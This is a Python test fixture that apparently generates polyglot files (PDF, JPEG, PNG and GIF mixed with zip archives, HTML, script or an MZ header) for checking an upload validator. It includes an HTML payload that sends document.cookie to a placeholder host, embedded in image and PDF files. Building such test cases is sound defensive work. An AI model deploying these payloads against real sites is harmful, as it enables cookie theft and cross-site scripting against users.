"""Files that are two kinds at once: checked as the one, they would be used as the other."""

from collections.abc import Iterator

from gacq.ops.proof.hostile import jpeg, pdf, png
from gacq.ops.proof.hostile.archives import zipped
from gacq.ops.proof.hostile.hostile_file import HostileFile, Kind, Make

_PAGE = b"<!doctype html><script>fetch('http://192.0.2.1/'+document.cookie)</script>"
_ZIP = {"a.txt": b"text"}


def files() -> Iterator[HostileFile]:
    for title, (name, make) in _REFUSED.items():
        yield HostileFile(Kind.POLYGLOT, title, name, make)
    for title, (name, make) in _TAKEN.items():
        yield HostileFile(Kind.POLYGLOT, title, name, make, taken=True)


_REFUSED: dict[str, tuple[str, Make]] = {
    "PDF and zip": ("โฉนด.pdf", lambda: pdf.pdf() + zipped(_ZIP)),
    "PDF with a zip before its end mark": (
        "โฉนด.pdf",
        lambda: pdf.pdf() + b"%" + zipped(_ZIP)[:-2] + b"\x08\x00\n%%EOF\n",
    ),
    "JPEG and zip": ("ภาพ.jpg", lambda: jpeg.picture() + zipped(_ZIP)),
    "PNG and zip": ("ภาพ.png", lambda: png.picture() + zipped(_ZIP)),
    "JPEG and PDF": (
        "ภาพ.jpg",
        lambda: jpeg.with_segments(jpeg.segment(jpeg.COMMENT, b"%PDF-1.7\n" + pdf.CATALOG)),
    ),
    "GIF and script": ("ภาพ.gif", lambda: b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;"),
    "GIF and script named as a photo": ("ภาพ.jpg", lambda: b"GIF89a=1;alert(1)//;"),
    "HTML and JPEG": ("ภาพ.jpg", lambda: _PAGE + jpeg.picture()),
    "zip and JPEG": ("ภาพ.jpg", lambda: zipped({"a.jpg": jpeg.picture()})),
    "program and PDF": ("โฉนด.pdf", lambda: b"MZ" + bytes(100) + pdf.pdf()),
}

_TAKEN: dict[str, tuple[str, Make]] = {
    "JPEG and HTML": (
        "ภาพ.html",
        lambda: jpeg.with_segments(jpeg.segment(jpeg.COMMENT, _PAGE)),
    ),
    "JPEG and HTML behind its end mark": ("ภาพ.jpg", lambda: jpeg.picture() + _PAGE),
    "PNG and HTML": (
        "ภาพ.html",
        lambda: png.picture(64, 48, png.chunk(b"tEXt", b"Comment\x00" + _PAGE)),
    ),
    "PDF and HTML": ("โฉนด.html", lambda: pdf.pdf(pdf.stream(_PAGE))),
}
